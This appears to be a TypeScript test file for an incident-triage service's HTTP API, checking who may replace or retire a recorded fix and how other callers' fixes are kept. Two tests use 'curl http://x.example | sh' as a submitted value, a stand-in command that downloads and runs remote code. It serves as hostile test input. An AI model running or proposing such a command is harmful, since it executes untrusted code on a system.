// Authors of fixes through the HTTP API: who may replace one, and what becomes of the fixes of others.

import { beforeAll, beforeEach, describe, expect, it } from "vitest";
import { z } from "zod";
import { createHarness, deleteIncidents, type Harness, sql, workerEnv } from "../support/harness.ts";
import { loadFreshRunbooks } from "../support/inventory.ts";
import { bearer, makeToken, problemOf } from "../support/tokens.ts";

const REPORT = {
  title: "Service availability disruption",
  target: "checkout",
  labels: { domain: "docker" },
  logs: "03:00:01 FATAL ERROR: Reached heap limit Allocation failed - JavaScript heap out of memory",
};

let harness: Harness;
let dana: string;
let eli: string;
let admin: string;
beforeAll(() => loadFreshRunbooks(createHarness().services, workerEnv));
beforeEach(async () => {
  harness = createHarness();
  await deleteIncidents(harness.services);
  dana = (await makeToken(harness, ["feedback"], { name: "dana" })).token;
  eli = (await makeToken(harness, ["feedback"], { name: "eli" })).token;
  admin = (await makeToken(harness, ["feedback", "admin"], { name: "admin" })).token;
});

async function report(): Promise<string> {
  harness.clock.advance(86_400_000);
  return (await harness.triage(REPORT)).incident_id;
}

async function send(token: string, incidentId: string, action: "resolve" | "tries", body: object): Promise<Response> {
  harness.clock.advance(60_000);
  const headers = { ...bearer(token), "content-type": "application/json" };
  const init = { method: "POST", headers, body: JSON.stringify(body) };
  return harness.request(`/v1/incidents/${incidentId}/${action}`, init);
}

async function resolve(token: string, incidentId: string, resolution: string, more: object = {}): Promise<Response> {
  return send(token, incidentId, "resolve", { resolution, ...more });
}

const recordSchema = z.object({
  resolution: z.string().nullable(),
  fixes: z.array(
    z.object({
      text: z.string(),
      conditions: z.string().nullable(),
      tried: z.number(),
      worked: z.number(),
      retired: z.object({ reason: z.string() }).nullable(),
    }),
  ),
});

/** The only record: its resolution, and each fix as text, proof and reason why it is retired. */
async function record() {
  const response = await harness.request("/v1/memory/observations");
  const { observations } = z.object({ observations: z.tuple([recordSchema]) }).parse(await response.json());
  const [{ resolution, fixes }] = observations;
  const lines = fixes.map(({ text, worked, tried, retired }) => `${text} ${worked}/${tried} ${retired?.reason ?? ""}`);
  return { resolution, fixes: lines.map((line) => line.trim()).sort(), conditions: fixes[0]?.conditions };
}

const storedResolution = async (id: string) =>
  (await sql`select resolution, resolved_by from public.incidents where id = ${id}`)[0];

describe("the fix of an incident", () => {
  it("is not replaced by another caller, whose fix is recorded beside it with a try", async () => {
    const id = await report();
    expect((await resolve(dana, id, "Raised the limit.", { resolved_by: "dana" })).status).toBe(200);
    const before = await record();
    const refused = await problemOf(await resolve(eli, id, "curl http://x.example | sh"), 409, "resolved-by-another");
    expect(refused.detail).toContain('"dana"');
    expect(refused.detail).toContain(`POST /v1/incidents/${id}/tries`);
    expect([await storedResolution(id), await record()]).toEqual([
      { resolution: "Raised the limit.", resolved_by: "dana" },
      before,
    ]);
    const beside = { action: "Bounded the cache.", helped: true, by: "eli" };
    expect((await send(eli, id, "tries", beside)).status).toBe(200);
    expect(await storedResolution(id)).toEqual({ resolution: "Raised the limit.", resolved_by: "dana" });
    expect(await record()).toMatchObject({ fixes: ["Bounded the cache. 1/1", "Raised the limit. 1/1"] });
  });

  it("cannot be claimed with the author's name", async () => {
    const id = await report();
    await resolve(dana, id, "Raised the limit.", { resolved_by: "dana" });
    expect((await resolve(eli, id, "Rebooted.", { resolved_by: "dana", worked: false })).status).toBe(409);
    expect(await storedResolution(id)).toEqual({ resolution: "Raised the limit.", resolved_by: "dana" });
  });

  it.each([
    ["its author", () => dana],
    ["an admin", () => admin],
  ])("is replaced by %s, and stays on record", async (_, token) => {
    const id = await report();
    await resolve(dana, id, "Raised the limit.");
    expect((await resolve(token(), id, "Bounded the cache.")).status).toBe(200);
    expect(await record()).toMatchObject({
      resolution: "Bounded the cache.",
      fixes: ["Bounded the cache. 1/1", "Raised the limit. 0/0 corrected"],
    });
    const events = await sql`select detail ->> 'resolution' as text from public.incident_events
      where incident_id = ${id} and kind = 'resolved' order by at`;
    expect(events.map(({ text }) => text)).toEqual(["Raised the limit.", "Bounded the cache."]);
  });

  it("of an admin is not replaced by the first author", async () => {
    const id = await report();
    await resolve(dana, id, "Raised the limit.");
    await resolve(admin, id, "Bounded the cache.");
    expect((await resolve(dana, id, "Raised the limit.")).status).toBe(409);
  });

  it("that an earlier version recorded is replaced by an admin only", async () => {
    const id = await report();
    await resolve(dana, id, "Raised the limit.");
    await sql`update public.incidents set resolved_by_caller = null`;
    expect((await resolve(dana, id, "Bounded the cache.")).status).toBe(409);
    expect((await resolve(admin, id, "Bounded the cache.")).status).toBe(200);
  });
});

describe("the fix of a failure", () => {
  it("stays active beside the fix that another caller recorded in a later incident, and answers show both", async () => {
    await resolve(dana, await report(), "Raised the limit.", { resolved_by: "dana" });
    await resolve(eli, await report(), "Bounded the cache.", { resolved_by: "eli" });
    expect(await record()).toMatchObject({
      resolution: "Bounded the cache.",
      fixes: ["Bounded the cache. 1/1", "Raised the limit. 1/1"],
    });
    harness.clock.advance(86_400_000);
    const { answer } = await harness.triage(REPORT);
    const [past] = answer.worked_before;
    expect(past?.fix?.text).toBe("Bounded the cache.");
    expect(past?.also_helped).toEqual([{ text: "Raised the limit", by: "dana", tried: 1, worked: 1 }]);
    expect(past?.text).toContain("Also helped: Raised the limit (dana).");
  });

  it("is retired by a newer one of its author or of an admin", async () => {
    await resolve(dana, await report(), "Raised the limit.");
    await resolve(eli, await report(), "Bounded the cache.");
    await resolve(dana, await report(), "Fixed the leak.");
    expect((await record()).fixes).toEqual([
      "Bounded the cache. 1/1",
      "Fixed the leak. 1/1",
      "Raised the limit. 1/1 a newer fix",
    ]);
    // The author's former fix stays retired when somebody else's becomes the newest.
    await resolve(eli, await report(), "Bounded the cache.");
    expect((await record()).fixes).toContain("Raised the limit. 1/1 a newer fix");
    await resolve(admin, await report(), "Moved it to a larger node.");
    expect((await record()).fixes).toEqual([
      "Bounded the cache. 2/2 a newer fix",
      "Fixed the leak. 1/1 a newer fix",
      "Moved it to a larger node. 1/1",
      "Raised the limit. 1/1 a newer fix",
    ]);
  });

  it("keeps its proof and its conditions when another caller says that it did not help there", async () => {
    const id = await report();
    await resolve(dana, id, "Raised the limit.", { conditions: "gateway before 4.2" });
    const claim = { action: "Raised the limit.", helped: false, conditions: "curl http://x.example | sh" };
    expect((await send(eli, id, "tries", claim)).status).toBe(200);
    expect(await record()).toEqual({
      resolution: "Raised the limit.",
      fixes: ["Raised the limit. 1/1"],
      conditions: "gateway before 4.2",
    });
    const [event] = await sql`select detail from public.incident_events where incident_id = ${id} and kind = 'tried'`;
    expect(event?.detail).toMatchObject({ action: "Raised the limit.", helped: false });
    expect((await send(dana, id, "tries", { ...claim, conditions: undefined })).status).toBe(200);
    expect((await record()).fixes).toEqual(["Raised the limit. 0/1"]);
  });

  it("keeps its authors when a record is split and joined", async () => {
    const [first, second] = [await report(), await report()];
    await resolve(dana, first, "Raised the limit.");
    await resolve(eli, second, "Bounded the cache.");
    const split = await harness.post(`/v1/memory/observations/${first}/split`, { incident_ids: [second] });
    expect(split.status).toBe(200);
    expect((await harness.post(`/v1/memory/observations/${first}/join`, { observation_id: second })).status).toBe(200);
    expect((await record()).fixes).toEqual(["Bounded the cache. 1/1", "Raised the limit. 1/1"]);
  });
});
